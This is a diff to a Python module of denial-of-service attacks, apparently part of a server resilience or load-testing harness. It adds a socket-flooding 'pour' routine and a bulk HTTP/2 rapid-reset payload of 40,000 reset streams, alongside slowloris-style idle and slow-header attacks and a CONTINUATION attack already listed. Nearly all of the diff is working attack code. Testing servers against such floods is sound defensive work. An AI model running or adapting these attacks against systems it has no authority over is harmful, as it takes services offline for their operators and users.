@@ -20,6 +20,9 @@ Chunks = Callable[[], Iterator[bytes]]
 
 # An attacker of whom there may be more: it leaves the machine's other CPU to those it attacks.
 PAUSE_SECONDS = 0.002
+# Between zones; what is read comes again after so long. On one machine an attacker's own buffer would fill in at once.
+ROUND_TRIP_SECONDS = 0.0005
+IN_FLIGHT_BYTES = 2**17
 _WHO, _LARGE, _UPLOAD = WHO.encode(), LARGE.encode(), UPLOAD.encode()
 
 
@@ -104,18 +107,59 @@ def hold(first: bytes, connections: int, drip: bytes = b"", *, reads: bool = Fal
     return attack
 
 
+def pour(content: bytes, connections: int) -> Callable[[Address, IsOver], Did]:
+    """Connections that send all that a network takes in each of its round trips, one after the other to its end."""
+
+    def attack(address: Address, is_over: IsOver) -> Did:
+        poured = memoryview(content)
+        opened: dict[int, tuple[socket.socket, int]] = {}
+        sent = 0
+        while not is_over():
+            for number in range(connections):
+                if number not in opened:
+                    opened[number] = _connect(address), 0
+                    opened[number][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, IN_FLIGHT_BYTES)
+                one, position = opened[number]
+                is_open = _discard(one)
+                one.setblocking(False)
+                try:
+                    count = one.send(poured[position : position + 2**20])
+                    sent, position = sent + count, position + count
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    is_open = False
+                opened[number] = one, position
+                if not is_open or position == len(poured):
+                    opened.pop(number)[0].close()
+            time.sleep(ROUND_TRIP_SECONDS)
+        for one, _ in opened.values():
+            one.close()
+        return {"sent": sent}
+
+    return attack
+
+
 def _odd() -> Iterator[int]:
     return itertools.count(1, 2)
+
+
+def _reset_at_once(streams: Iterator[int], count: int) -> bytes:
+    return b"".join(
+        http2.call(stream, _WHO) + http2.message(stream) + http2.reset(stream)
+        for stream in itertools.islice(streams, count)
+    )
 
 
 def _rapid_reset() -> Iterator[bytes]:
     yield http2.start()
     streams = _odd()
     while True:
-        yield b"".join(
-            http2.call(stream, _WHO) + http2.message(stream) + http2.reset(stream)
-            for stream in itertools.islice(streams, 100)
-        )
+        yield _reset_at_once(streams, 100)
+
+
+def _resets_by_the_megabyte() -> bytes:
+    return http2.start() + _reset_at_once(_odd(), 40_000)
 
 
 def _continuation() -> Iterator[bytes]:
@@ -206,4 +250,8 @@ ATTACKS: dict[str, Callable[[Address, IsOver], Did]] = {
     "idle connections": hold(b"", connections=500, reads=True),
     "idle http2 connections": hold(http2.start(), connections=500, reads=True),
     "slow http1 heads": hold(_HTTP1, connections=200, drip=b"X-Slow: " + b"x" * 1_000, reads=True),
+}
+# These fill a worker's time by themselves, at the pace of a network: what they send is made before.
+POURS: dict[str, Callable[[], Callable[[Address, IsOver], Did]]] = {
+    "resets by the megabyte": lambda: pour(_resets_by_the_megabyte(), connections=2)
 }
